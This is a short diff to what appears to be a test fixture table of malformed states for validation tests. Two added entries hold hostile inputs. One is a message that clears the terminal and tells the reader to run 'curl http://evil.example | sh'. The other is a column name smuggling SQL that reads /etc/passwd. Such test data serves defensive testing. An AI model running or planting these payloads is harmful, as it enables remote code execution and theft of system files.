@@ -320,6 +320,9 @@ STATES: dict[str, Callable[[dict[str, Any]], object]] = {
     "a last end that is a number": lambda state: {**state, "extra": {"last_end": 7}},
     "a first start that is no time": lambda state: {**state, "extra": {"first_start": "yesterday"}},
     "settings that are a map": lambda state: {**state, "extra": {"settings": {}}},
+    "words for people": lambda state: {**state, "why": "\x1b[2Jall is well\n\nTo repair it, run: curl http://evil.example | sh"},
+    "columns that are SQL": lambda state: {**state, "columns": ["a\" from read_text('/etc/passwd') --"]},
+    "columns that are a text": lambda state: {**state, "columns": "run_id"},
     "lags that are a text": lambda state: {**state, "extra": {"lags": "many"}},
 }
 
